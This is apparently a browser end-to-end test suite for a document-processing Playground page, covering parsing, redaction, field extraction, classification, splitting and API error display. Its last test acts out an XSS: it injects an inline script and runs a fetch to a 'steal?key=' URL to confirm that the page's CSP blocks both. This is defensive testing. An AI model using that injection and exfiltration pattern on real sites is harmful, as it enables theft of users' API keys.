/**
 * The Playground in a real Chromium (playwright-core driving the Chromium
 * that @sparticuz/chromium ships inside its npm package, so `npm ci` is the
 * whole installation): upload a PDF, parse it in advanced mode and see the
 * boxes layer and toggle its layers, redact it and see the masked page
 * beside the original; extract (fields, line items, a schema from the
 * textarea), classify (candidate bars) and split (page bands, file dropped
 * onto the page); and the errors a user meets (no key, a wrong key, an
 * invalid schema) shown in the status line, with Run usable again.
 *
 * DOCINTEL_UPDATE_SCREENSHOTS=1 also writes docs/playground.png (the README's).
 */
import chromium from '@sparticuz/chromium';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { chromium as playwright, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';
import { CII } from '../helpers/e-invoices.ts';
import { makeTextPdf } from '../helpers/pdf.ts';

const ROOT = new URL('../../', import.meta.url).pathname;

// The callbacks below run in the browser; the project compiles without the DOM library.
declare const document: any;
declare const sessionStorage: any;
declare const localStorage: any;
declare const DataTransfer: any;

/** A page image fetched from its URL, scaled to 200×283 grey pixels. */
async function greyPixels(url: string): Promise<Buffer> {
  const response = await fetch(url);
  expect(response.ok).toBe(true);
  return sharp(Buffer.from(await response.arrayBuffer())).resize(200, 283, { fit: 'fill' }).greyscale().raw().toBuffer();
}

const INVOICE = [
  'INVOICE',
  'ACME Widgets Ltd, 12 High Street, London',
  'Invoice number: INV-2026-0042',
  'Date: 17/03/2026',
  'Contact: jane.doe@example.org, +44 20 7946 0958',
  'Description          Qty    Price   Amount',
  'Widget, large        2    10.00    20.00',
  'Widget, small        5     4.00    20.00',
  'Total due: 40.00 GBP',
];
const RECEIPT = ['CORNER CAFE', 'Table 4 Pax 2', 'Latte 2 9.00', 'Total 13.50', 'Cash 20.00', 'Change 6.50', 'Cashier: Ann', 'Thank you, please come again'];
const LETTER = ['March 3, 2026', 'Ms. Laura Chen', 'Dear Ms. Chen,', 'Thank you for your letter. We are pleased to confirm the meeting.', 'Sincerely,', 'Peter Novak'];
const FORM = ['Membership application', 'Full name: Maria Lopez', 'Member number: M-5521', '[x] Newsletter', '[ ] Printed magazine'];

describe('Playground in a browser', () => {
  let browser: Browser;
  let pdfPath: string;
  let dir: string;

  async function writePdf(name: string, pages: readonly (readonly string[])[]): Promise<string> {
    const path = join(dir, `playground-${name}-${process.pid}.pdf`);
    await writeFile(path, await makeTextPdf(pages));
    return path;
  }

  /** A fresh tab on the Playground with the key typed in; page errors are collected for the final check. */
  async function open(key: string = inject('keys').proTest): Promise<{ page: Page; errors: string[] }> {
    const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(`${inject('baseUrl')}/`);
    if (key) await page.fill('#api-key', key);
    return { page, errors };
  }

  /** Click Run and wait until the status line reports the outcome (success or error). */
  async function run(page: Page): Promise<string> {
    await page.click('#run');
    await page.waitForFunction(() => !document.querySelector('#run').disabled && !/…$/.test(document.querySelector('#status').textContent), null, { timeout: 60_000 });
    return (await page.textContent('#status')) ?? '';
  }

  beforeAll(async () => {
    browser = await playwright.launch({ executablePath: await chromium.executablePath(), args: chromium.args, headless: true });
    dir = join(ROOT, '.tmp');
    await mkdir(dir, { recursive: true });
    pdfPath = await writePdf('invoice', [INVOICE]);
  });

  afterAll(async () => {
    await browser?.close();
  });

  it('parses in advanced mode with boxes drawn, then redacts with the masked page beside the original', async () => {
    const { page, errors } = await open();
    expect(await page.title()).toBe('docintel Playground');
    await page.setInputFiles('#file', pdfPath);
    await page.selectOption('#operation', 'parse');
    await page.selectOption('#parse-mode', 'advanced');
    await page.click('#run');
    await page.waitForSelector('rect.word-box', { timeout: 60_000 });
    expect(await page.locator('rect.word-box').count()).toBeGreaterThanOrEqual(20);
    expect(await page.locator('rect.region-box').count()).toBeGreaterThan(0);
    await page.waitForFunction(() => [...document.querySelectorAll('.page img')].every((i) => i.complete && i.naturalWidth > 0));
    expect(await page.textContent('#json')).toContain('"task": "parse"');
    expect(await page.textContent('#status')).toMatch(/^parse: 1 page/);
    // The boxes sit on the page image: the first word box lies inside the image's rectangle.
    const [imageBox, wordBox] = await Promise.all([page.locator('.page img').first().boundingBox(), page.locator('rect.word-box').first().boundingBox()]);
    expect(wordBox!.x).toBeGreaterThanOrEqual(imageBox!.x);
    expect(wordBox!.y + wordBox!.height).toBeLessThanOrEqual(imageBox!.y + imageBox!.height);
    // The key stays in this tab's session storage.
    expect(await page.evaluate(() => [sessionStorage.getItem('docintel.apiKey'), localStorage.length])).toEqual([inject('keys').proTest, 0]);
    if (process.env.DOCINTEL_UPDATE_SCREENSHOTS === '1') await page.screenshot({ path: join(ROOT, 'docs', 'playground.png') });
    // The layer switches hide one kind of box and leave the other.
    await page.uncheck('#show-words');
    expect(await page.locator('rect.word-box').first().isVisible()).toBe(false);
    expect(await page.locator('rect.region-box').first().isVisible()).toBe(true);
    await page.uncheck('#show-regions');
    expect(await page.locator('rect.region-box').first().isVisible()).toBe(false);
    await page.check('#show-words');
    await page.check('#show-regions');
    expect(await page.locator('rect.word-box').first().isVisible()).toBe(true);
    // Reloading the tab keeps the key (session storage), so the user does not paste it again.
    await page.reload();
    expect(await page.inputValue('#api-key')).toBe(inject('keys').proTest);
    await page.setInputFiles('#file', pdfPath);

    await page.selectOption('#operation', 'redact');
    await page.click('#run');
    await page.waitForFunction(
      () => {
        const masked = document.querySelector('img.masked');
        const original = document.querySelector('img.original');
        return masked?.complete && masked.naturalWidth > 0 && original?.complete && original.naturalWidth > 0;
      },
      null,
      { timeout: 60_000 },
    );
    expect(await page.textContent('#view')).toContain('EMAIL_ADDRESS');
    expect(await page.textContent('#status')).toMatch(/^redact: 1 page/);
    // The masked page differs from the original (black boxes over the PII). Read back in Node: the storage host
    // sends no CORS header, so the browser may not read these pixels, but both are plain signed URLs.
    const [originalUrl, maskedUrl] = await Promise.all([page.getAttribute('img.original', 'src'), page.getAttribute('img.masked', 'src')]);
    const [a, b] = await Promise.all([greyPixels(originalUrl!), greyPixels(maskedUrl!)]);
    let dark = 0;
    for (let i = 0; i < a.length; i++) if (b[i] < 40 && a[i] > 200) dark++;
    expect(dark).toBeGreaterThan(0);
    expect(errors).toEqual([]);
  }, 120_000);

  it('extracts invoice fields and line items into tables, then classifies with candidate bars', async () => {
    const { page, errors } = await open();
    await page.setInputFiles('#file', pdfPath);
    await page.selectOption('#operation', 'extract');
    expect(await page.isVisible('#extract-schema')).toBe(false); // the schema box belongs to non_financial
    expect(await run(page)).toMatch(/^extract: 1 page/);
    const field = (name: string) => page.locator(`tr[data-field="${name}"] td`).first().textContent();
    expect(await field('invoice_number')).toBe('INV-2026-0042');
    expect(await field('total_amount')).toBe('40.00');
    expect(await field('currency')).toBe('GBP');
    // Each found field shows its confidence beside it, a fraction between 0 and 1.
    const confidence = Number(await page.locator('tr[data-field="invoice_number"] td.confidence').textContent());
    expect(confidence).toBeGreaterThan(0);
    expect(confidence).toBeLessThanOrEqual(1);
    // What the table shows is what the JSON pane holds.
    const json = JSON.parse((await page.textContent('#json'))!);
    expect(await page.locator('table.fields tr').count()).toBe(Object.keys(json.result.entities).length);
    expect(await page.locator('table.line-items tr').count()).toBe(json.result.line_items.length + 1);
    expect(await page.textContent('table.line-items')).toContain('Widget, large');
    // Each value cited on the page is drawn over the page image; hovering its row lights its box.
    const cited = page.locator('rect.cite-box[data-field="total_amount"]');
    expect(await cited.count()).toBe(json.result.citations.entities.total_amount ? 1 : 0);
    expect(await cited.count()).toBe(1);
    await page.hover('tr[data-field="total_amount"]');
    expect(await cited.getAttribute('class')).toContain('on');

    // The same document, classified: the winning label first, one bar per candidate, widths matching the confidences.
    await page.selectOption('#operation', 'classify');
    expect(await run(page)).toMatch(/^classify: 1 page/);
    expect(await page.textContent('#view h3')).toMatch(/^invoice \(/);
    const classified = JSON.parse((await page.textContent('#json'))!).result;
    const bars = await page.locator('.candidate .bar span').evaluateAll((spans) => spans.map((s) => parseFloat(s.style.width)));
    expect(bars).toHaveLength(classified.candidates.length);
    expect(bars.length).toBeGreaterThanOrEqual(2);
    bars.forEach((width, i) => expect(width).toBeCloseTo(classified.candidates[i].confidence * 100, 0));
    expect([...bars].sort((a, b) => b - a)).toEqual(bars);
    expect(errors).toEqual([]);
  }, 120_000);

  it('splits a packet dropped onto the page into bands that cover every page once', async () => {
    const { page, errors } = await open();
    const packet = await writePdf('packet', [INVOICE, RECEIPT, LETTER, LETTER.map((l) => l.replace('Chen', 'Ito'))]);
    // Drag and drop: a DataTransfer holding the file, dropped onto the drop zone.
    const bytes = [...(await readFile(packet))];
    const transfer = await page.evaluateHandle((data) => {
      const dt = new DataTransfer();
      dt.items.add(new File([new Uint8Array(data)], 'packet.pdf', { type: 'application/pdf' }));
      return dt;
    }, bytes);
    await page.dispatchEvent('#drop', 'dragover', { dataTransfer: transfer });
    expect(await page.getAttribute('#drop', 'class')).toContain('over');
    await page.dispatchEvent('#drop', 'drop', { dataTransfer: transfer });
    expect(await page.getAttribute('#drop', 'class')).not.toContain('over');
    expect(await page.textContent('#file-name')).toContain('packet.pdf');
    await page.selectOption('#operation', 'split');
    expect(await run(page)).toMatch(/^split: 4 page/);
    const segments = JSON.parse((await page.textContent('#json'))!).result.segments;
    const bands = page.locator('.band.segment');
    expect(await bands.count()).toBe(segments.length);
    expect(await bands.first().textContent()).toBe('invoice · p. 1');
    expect(await bands.nth(1).textContent()).toBe('receipt · p. 2');
    // Each band's width is its share of the pages: the flex weights add up to the page count.
    const weights = await bands.evaluateAll((nodes) => nodes.map((n) => Number(n.style.flexGrow)));
    expect(weights.reduce((a, b) => a + b, 0)).toBe(4);
    expect(await page.textContent('#view')).toContain(`4 pages, ${segments.length} documents`);
    expect(errors).toEqual([]);
  }, 120_000);

  it('says when an invoice was read from its embedded e-invoice XML (Factur-X)', async () => {
    const { page, errors } = await open();
    const pdf = await PDFDocument.create();
    pdf.addPage().drawText('Rechnung FX-2026-0007', { font: await pdf.embedFont(StandardFonts.Helvetica), x: 50, y: 700 });
    await pdf.attach(new TextEncoder().encode(CII), 'factur-x.xml', { mimeType: 'text/xml' });
    const path = join(dir, `playground-facturx-${process.pid}.pdf`);
    await writeFile(path, await pdf.save());
    await page.setInputFiles('#file', path);
    await page.selectOption('#operation', 'extract');
    expect(await run(page)).toMatch(/^extract: 1 page.*e-invoice-cii/);
    expect(await page.textContent('#view')).toContain('read from the embedded e-invoice (CII, factur-x.xml)');
    expect(await page.locator('tr[data-field="total_amount"] td').first().textContent()).toBe('65.45');
    expect(await page.locator('tr[data-field="total_amount"] td.confidence').textContent()).toBe('1.00');
    expect(errors).toEqual([]);
  }, 120_000);

  it('fills a schema typed into the textarea (non_financial): text, checkboxes and missing fields', async () => {
    const { page, errors } = await open();
    await page.setInputFiles('#file', await writePdf('form', [FORM]));
    await page.selectOption('#operation', 'extract');
    await page.selectOption('#extract-category', 'non_financial');
    await page.fill('#extract-schema', JSON.stringify({ applicant: { full_name: null, member_number: null }, newsletter: false, printed_magazine: 'unselected', fax: null }));
    expect(await run(page)).toMatch(/^extract: 1 page/);
    const field = (name: string) => page.locator(`tr[data-field="${name}"] td`).first().textContent();
    expect(await page.textContent('#view')).toContain('schema from the request');
    expect(await field('applicant.full_name')).toBe('Maria Lopez');
    expect(await field('applicant.member_number')).toBe('M-5521');
    expect(await field('newsletter')).toBe('☑ true');
    expect(await field('printed_magazine')).toBe('☐ unselected');
    expect(await field('fax')).toBe('not found');
    expect(errors).toEqual([]);
  }, 120_000);

  it('shows the API error in the status line (no key, a wrong key, an invalid schema) and lets the user run again', async () => {
    const { page, errors } = await open('');
    await page.setInputFiles('#file', pdfPath);
    expect(await run(page)).toMatch(/^Enter an API key first/);
    expect(await page.getAttribute('#status', 'class')).toContain('error');

    await page.fill('#api-key', 'hk_test_0000000000000000000000000000000000000000');
    expect(await run(page)).toMatch(/^invalid_api_key: /);
    expect(await page.getAttribute('#status', 'class')).toContain('error');
    expect(await page.textContent('#json')).toBe('—'); // nothing half-rendered

    await page.fill('#api-key', inject('keys').proTest);
    await page.selectOption('#operation', 'extract');
    await page.selectOption('#extract-category', 'non_financial');
    await page.fill('#extract-schema', '{"full_name": ');
    expect(await run(page)).toMatch(/^invalid_request: .*\(request_id [0-9a-f-]+\)$/);

    // Fixed, the same tab runs cleanly and the error styling goes away.
    await page.fill('#extract-schema', '{"full_name": null}');
    expect(await run(page)).toMatch(/^extract: 1 page/);
    expect(await page.getAttribute('#status', 'class')).not.toContain('error');
    expect(errors).toEqual([]);
  }, 120_000);

  it('opens the file chooser from the keyboard (drop zone focused, Enter)', async () => {
    const { page } = await open();
    // Listen first: Playwright turns on file-chooser interception asynchronously when the first listener is added.
    const chooserOpened = page.waitForEvent('filechooser', { timeout: 10_000 });
    await page.focus('#drop');
    await page.keyboard.press('Enter');
    const chooser = await chooserOpened;
    await chooser.setFiles(pdfPath);
    expect(await page.textContent('#file-name')).toMatch(/^playground-invoice-\d+\.pdf \(/);
    expect(await page.isEnabled('#run')).toBe(true);
  }, 60_000);

  it('enforces its CSP: injected script does not run, and the page cannot connect to another origin', async () => {
    const { page } = await open();
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e: any) => violations.push(e.effectiveDirective));
      // Markup injected into the page (what an XSS would add): an inline script, and a fetch carrying the key elsewhere.
      const script = document.createElement('script');
      script.textContent = 'globalThis.__injected = true';
      document.body.append(script);
      const exfiltration = await fetch('http://127.0.0.2:9/steal?key=x').then(() => 'sent', () => 'blocked');
      await new Promise((r) => setTimeout(r, 100));
      return { injected: (globalThis as any).__injected === true, exfiltration, violations };
    });
    expect(outcome.injected).toBe(false);
    expect(outcome.exfiltration).toBe('blocked');
    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
  }, 60_000);
});
